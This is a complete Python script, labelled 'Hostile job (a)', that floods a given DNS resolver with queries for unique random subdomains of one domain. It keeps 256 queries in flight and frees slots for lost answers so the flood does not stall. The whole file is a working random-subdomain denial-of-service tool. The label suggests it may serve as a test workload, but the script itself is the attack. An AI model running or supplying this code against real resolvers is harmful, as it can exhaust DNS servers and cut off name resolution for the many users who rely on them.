#!/usr/bin/env python3
"""Hostile job (a): DNS queries for unique random names under one domain, as fast as the resolver answers.

usage: dnsflood.py RESOLVER DOMAIN COUNT SECONDS
Keeps up to 256 queries in flight on one UDP socket; stops after COUNT queries or SECONDS.
Prints: sent answered seconds
"""
import os
import select
import socket
import struct
import sys
import time


def query(qid: int, name: str) -> bytes:
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def main() -> None:
    resolver, domain, count, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setblocking(False)
    sock.connect((resolver, 53))
    prefix = os.urandom(4).hex()
    start = time.monotonic()
    deadline = start + seconds
    sent = answered = 0
    in_flight = 0
    while time.monotonic() < deadline and (sent < count or in_flight > 0):
        while sent < count and in_flight < 256:
            try:
                sock.send(query(sent & 0xFFFF, f"{prefix}{sent:x}.{domain}"))
            except BlockingIOError:
                break
            sent += 1
            in_flight += 1
        readable, _, _ = select.select([sock], [], [], 0.05)
        if not readable:
            # Lost answers free their slot after a quiet spell, so the flood keeps going.
            in_flight = max(0, in_flight - 16)
            continue
        while True:
            try:
                sock.recv(512)
            except BlockingIOError:
                break
            answered += 1
            in_flight = max(0, in_flight - 1)
    print(sent, answered, round(time.monotonic() - start, 1))


main()
